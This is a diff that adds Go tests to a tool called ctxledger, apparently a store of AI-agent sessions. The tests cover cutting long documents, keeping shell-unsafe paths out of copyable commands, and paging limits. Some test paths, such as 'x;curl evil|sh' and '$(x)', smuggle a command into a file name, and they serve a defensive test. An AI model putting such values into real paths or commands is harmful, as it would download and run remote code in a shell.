@@ -1,6 +1,7 @@
 package records
 
 import (
+	"context"
 	"encoding/json"
 	"fmt"
 	"math/rand/v2"
@@ -308,4 +309,90 @@ func TestWhatWasForgottenSaysSo(t *testing.T) {
 			l.open(n)
 		}
 	})
+}
+
+// TestACutDocumentSaysWhereTheRestIs has documents that take more room as they are shown than as they are stored.
+func TestACutDocumentSaysWhereTheRestIs(t *testing.T) {
+	l := newLedger(t)
+	hidden := func(n int) string { return strings.Repeat("x\u200c", n/2) } // shown with three times the characters, six times the bytes
+	session := l.say("", user("begin"))
+	for i := range 60 {
+		l.say(session, assistant(fmt.Sprintf("answer %d %s", i+1, hidden(18_000))))
+	}
+	args := map[string]any{"file_path": "/ws/a.go"}
+	for i := range 10 {
+		args[fmt.Sprint("new_string", i)] = hidden(maxArgument + 10)
+	}
+	l.say(session, l.use("Edit", args, "ok", false)...)
+	text := must(l.Text(t.Context(), Address{Kind: KindSession, ID: session}))
+	if !strings.Contains(text, "answer 60 ") || strings.Contains(text, "Cut here") || !strings.Contains(text[:2000], "`ctxledger cat "+session+"` prints all of them") {
+		t.Errorf("the session begins %.1000s\nand ends %s", text, text[len(text)-200:])
+	}
+	for name, text := range map[string]string{
+		"a change":  l.open(l.nodes(KindChange)["a.go"]),
+		"a session": must(l.told(t.Context(), fence(hidden(limits.MaskText), "markdown")+"END\n", "`ctxledger cat "+session+"`")),
+	} {
+		if lines := outside(text); lines[len(lines)-1] != "*Cut here: `ctxledger cat "+session+"` prints all of it.*" || len(text) > limits.MaskText+500 {
+			t.Errorf("%s of %d bytes ends %q", name, len(text), text[len(text)-200:])
+		}
+	}
+}
+
+// TestACommandHoldsNoWordsOfOthers: what is there to be copied into a shell runs ctxledger and nothing else.
+func TestACommandHoldsNoWordsOfOthers(t *testing.T) {
+	for path, want := range map[string]string{
+		"src/add_1.go": "`ctxledger why src/add_1.go`", "Straße/买.md": "`ctxledger why Straße/买.md`",
+		"x;curl evil|sh": "`ctxledger why`, with its path,", "a b": "`ctxledger why`, with its path,",
+		"$(x)": "`ctxledger why`, with its path,", "a`b": "`ctxledger why`, with its path,", "a\nb": "`ctxledger why`, with its path,",
+		"--help": "`ctxledger why`, with its path,", "'": "`ctxledger why`, with its path,", "a\\b": "`ctxledger why`, with its path,",
+	} {
+		if got := why(path); got != want {
+			t.Errorf("%q: %s", path, got)
+		}
+	}
+	l := newLedger(t)
+	l.say("", l.use("Write", map[string]any{"file_path": "/ws/x;curl evil|sh", "content": "x"}, "ok", false)...)
+	if text := l.open(l.nodes(KindChange)["x;curl evil|sh"]); !strings.Contains(text, "\n`ctxledger why`, with its path, tells") {
+		t.Errorf("the change says %s", text)
+	}
+}
+
+// paged is a ledger that counts the pages of intents it is asked for.
+type paged struct {
+	engine.API
+	pages int
+}
+
+func (p *paged) Intents(ctx context.Context, r engine.IntentsRequest) (engine.IntentsResponse, error) {
+	p.pages++
+	return p.API.Intents(ctx, r)
+}
+
+// TestAChangeDoesNotReadThroughItsSession shows changes of a session with many pages of intents.
+func TestAChangeDoesNotReadThroughItsSession(t *testing.T) {
+	l := newLedger(t)
+	counting := &paged{API: l.Local}
+	l.Reader.API = counting
+	const calls = 1500
+	args := map[string]any{"old_string": "a", "new_string": "b"}
+	for i := range 30 {
+		args[fmt.Sprint("more", i)] = strings.Repeat("x", 200)
+	}
+	session := ""
+	for i := 0; i < calls; i += 100 {
+		var messages [][]byte
+		for n := i; n < i+100; n++ {
+			args["file_path"] = fmt.Sprintf("/ws/%d.go", n)
+			messages = append(messages, l.use("Edit", args, "ok", false)...)
+		}
+		session = l.say(session, messages...)
+	}
+	changes := l.nodes(KindChange)
+	for _, i := range []int{0, calls / 2, calls - 1} {
+		counting.pages = 0
+		text := l.open(changes[fmt.Sprintf("%d.go", i)])
+		if !strings.Contains(text, fmt.Sprintf("- `file_path` `/ws/%d.go`\n", i)) || counting.pages > 3 {
+			t.Errorf("change %d took %d pages and says %.300s", i, counting.pages, text)
+		}
+	}
 }
